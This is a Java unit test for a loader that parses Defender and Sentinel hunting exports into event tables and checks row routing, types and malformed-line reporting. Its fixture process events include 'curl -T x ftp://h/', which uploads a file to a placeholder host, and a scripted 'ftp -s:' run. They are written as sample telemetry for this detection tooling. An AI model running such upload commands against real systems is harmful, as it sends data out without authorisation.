package io.egress.telemetry;

import static io.egress.telemetry.TableRows.get;
import static org.assertj.core.api.Assertions.assertThat;

import io.egress.data.Table;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Defender exports go through the engine's AdvancedHuntingReader straight into their tables. */
class DefenderExportTest {
    @TempDir
    Path dir;

    @Test
    void routesJsonLinesAndCsvExportsToTheirTables() throws IOException {
        Path processes = dir.resolve("export1");
        Files.writeString(processes, """
                {"Timestamp":"2026-11-28T10:00:00Z","DeviceName":"pc1","ActionType":"ProcessCreated","FileName":"ftp.exe","FolderPath":"C:\\\\Windows\\\\System32\\\\ftp.exe","ProcessCommandLine":"ftp -s:x.txt","ProcessId":4242,"InitiatingProcessFileName":"cmd.exe","AccountName":"alice"}
                {"Timestamp":"2026-11-28T10:00:05Z","DeviceName":"pc1","ActionType":"ProcessCreated","FileName":"curl.exe","ProcessCommandLine":"curl -T x ftp://h/","ProcessId":"4243","InitiatingProcessFileName":"cmd.exe","AccountName":"alice"}
                """);
        Path network = dir.resolve("export2");
        Files.writeString(network, """
                Timestamp,DeviceName,ActionType,RemoteIP,RemotePort,RemoteIPType,InitiatingProcessFileName,Protocol
                2026-11-28T10:00:06Z,pc1,ConnectionSuccess,198.51.100.7,21,Public,curl.exe,Tcp
                """);
        Path sentinel = dir.resolve("export3");
        Files.writeString(sentinel, """
                [{"TimeGenerated":"2026-11-28T10:00:07Z","Timestamp":"2026-11-28T10:00:07Z","DeviceName":"pc2","ActionType":"FileCreated","FileName":"a.zip","Type":"DeviceFileEvents"},
                 {"TimeGenerated":"2026-11-28T10:00:08Z","Timestamp":"2026-11-28T10:00:08Z","DeviceName":"pc2","ActionType":"DnsQueryResponse","AdditionalFields":"{}","Type":"DeviceEvents"}]
                """);
        LoadResult result = new TelemetryLoader().load(List.of(processes, network, sentinel), LoadOptions.defaults());
        assertThat(result.files()).extracting(FileReport::format).containsExactly("defender", "defender", "defender");
        assertThat(result.totalMalformed()).isZero();
        Table process = result.tables().get("DeviceProcessEvents");
        assertThat(process.rowCount()).isEqualTo(2);
        assertThat(get(process, 0, "ProcessId")).isEqualTo(4242L);
        assertThat(get(process, 1, "ProcessId")).isEqualTo(4243L);
        assertThat(get(process, 0, "Timestamp")).isEqualTo(Instant.parse("2026-11-28T10:00:00Z"));
        assertThat(get(process, 0, "TimeGenerated")).isEqualTo(Instant.parse("2026-11-28T10:00:00Z"));
        assertThat(get(process, 0, "Type")).isEqualTo("DeviceProcessEvents");
        Table net = result.tables().get("DeviceNetworkEvents");
        assertThat(net.rowCount()).isEqualTo(1);
        assertThat(get(net, 0, "RemotePort")).isEqualTo(21);
        assertThat(get(net, 0, "RemoteIPType")).isEqualTo("Public");
        assertThat(result.rows("DeviceFileEvents")).isEqualTo(1);
        assertThat(result.rows("DeviceEvents")).isEqualTo(1);
        assertThat(result.files().get(2).rowsPerTable()).containsEntry("DeviceFileEvents", 1L).containsEntry("DeviceEvents", 1L);
        assertThat(result.latestEventTime()).contains(Instant.parse("2026-11-28T10:00:08Z"));
    }

    @Test
    void streamsJsonLinesRoutingEachRowAndReportingBadLinesWithTheirNumber() throws IOException {
        Path export = dir.resolve("sentinel-export.json");
        Files.writeString(export, "\uFEFF"
                + "{\"Timestamp\":\"2026-11-28T10:00:00Z\",\"DeviceName\":\"pc1\",\"ActionType\":\"ProcessCreated\",\"FileName\":\"ftp.exe\",\"ProcessId\":7,\"Type\":\"DeviceProcessEvents\"}\n"
                + "{\"Timestamp\":\"2026-11-28T10:00:01Z\",\"DeviceName\":\"pc1\",\"ActionType\":\"DnsQueryResponse\",\"AdditionalFields\":\"{\\\"DnsQueryString\\\":\\\"a.example.com\\\"}\",\"Type\":\"DeviceEvents\"}\n"
                + "{\"Timestamp\":\"2026-11-28T10:00:02Z\",\"DeviceName\":\"pc1\",\"ActionType\":\n"
                + "\n"
                + "{\"Timestamp\":\"2026-11-28T10:00:03Z\",\"DeviceName\":\"pc1\",\"ActionType\":\"ConnectionSuccess\",\"RemoteIP\":\"198.51.100.7\",\"RemotePort\":21,\"Protocol\":\"Tcp\",\"InitiatingProcessFileName\":\"ftp.exe\"}\n");
        LoadResult result = new TelemetryLoader().load(List.of(export), LoadOptions.defaults());
        assertThat(result.totalMalformed()).isEqualTo(1);
        assertThat(result.files().get(0).problems()).singleElement()
                .satisfies(p -> assertThat(p.toString()).contains("sentinel-export.json").contains(":3"));
        assertThat(get(result.tables().get("DeviceProcessEvents"), 0, "ProcessId")).isEqualTo(7L);
        Object fields = get(result.tables().get("DeviceEvents"), 0, "AdditionalFields");
        assertThat(fields.toString()).contains("\"DnsQueryString\":\"a.example.com\"");
        Table net = result.tables().get("DeviceNetworkEvents");
        assertThat(get(net, 0, "RemotePort")).isEqualTo(21);
        assertThat(get(net, 0, "Type")).isEqualTo("DeviceNetworkEvents");
    }
}
